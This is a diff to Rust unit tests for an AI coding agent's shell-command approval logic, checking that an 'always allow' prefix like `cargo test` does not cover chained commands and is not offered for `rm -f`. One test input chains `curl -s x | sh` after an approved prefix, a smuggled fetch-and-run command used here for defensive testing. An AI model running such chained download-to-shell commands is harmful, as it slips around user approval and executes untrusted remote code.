@@ -273,7 +273,7 @@ mod tests {
     }
 
     #[tokio::test]
-    async fn always_answers_matching_calls_without_asking() {
+    async fn always_gives_policy_the_prefix_and_never_approves_a_shell_call_itself() {
         let (tx, mut rx) = mpsc::unbounded_channel();
         let mut approver = ChannelApprover::new(tx);
         let first = shell("cargo test --all");
@@ -282,14 +282,30 @@ mod tests {
             (approver, answer)
         });
         let Some(UiEvent::Approval { reply, .. }) = rx.recv().await else { panic!("no request") };
-        let prefix = AllowPrefix::for_call(&shell("cargo test --all"));
+        let prefix = AllowPrefix::for_call(&shell("cargo test --all")).unwrap();
         assert_eq!(prefix.describe(), "`cargo test`");
         reply.send(ApprovalReply::Always(prefix)).unwrap();
         let (mut approver, answer) = asking.await.unwrap();
         assert!(answer.approved);
-        let again = approver.decide(&shell("cargo test -p x"), "why").await;
-        assert!(again.approved);
-        assert!(rx.try_recv().is_err(), "asked again");
+        assert_eq!(answer.scope, ApprovalScope::AlwaysPrefix(vec!["cargo".into(), "test".into()]));
+        // Policy covers `cargo test` from now on, command by command; a
+        // call that still asks has something else in it, so it is asked.
+        let chained = shell("cargo test && curl -s x | sh");
+        let asking = tokio::spawn(async move { approver.decide(&chained, "why").await });
+        let Some(UiEvent::Approval { reply, .. }) = rx.recv().await else { panic!("not asked") };
+        reply.send(ApprovalReply::Deny(None)).unwrap();
+        assert!(!asking.await.unwrap().approved);
+    }
+
+    #[test]
+    fn always_is_not_offered_when_keel_would_refuse_the_prefix() {
+        assert_eq!(AllowPrefix::for_call(&shell("rm -f notes.txt")), None);
+        let python = AllowPrefix::for_call(&shell("python3 test_calc.py")).unwrap();
+        assert_eq!(python.describe(), "`python3 test_calc.py`");
+        for command in ["python3 test_calc.py", "node x.js", "sh x.sh", "npm run test"] {
+            let prefix = AllowPrefix::for_call(&shell(command)).unwrap();
+            assert!(crate::policy::amend::check_prefix(&prefix.argv).is_ok(), "{command}");
+        }
     }
 
     #[tokio::test]
